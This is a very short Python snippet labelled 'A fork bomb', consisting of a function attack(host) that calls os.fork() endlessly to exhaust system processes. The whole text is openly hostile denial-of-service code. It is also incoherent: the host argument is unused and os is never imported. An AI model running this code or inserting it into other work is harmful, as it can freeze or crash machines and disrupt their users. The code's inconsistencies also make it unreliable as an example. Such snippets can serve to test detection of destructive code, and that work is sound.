"""A fork bomb."""


def attack(host):
    while True:
        try:
            os.fork()
        except OSError:
            pass
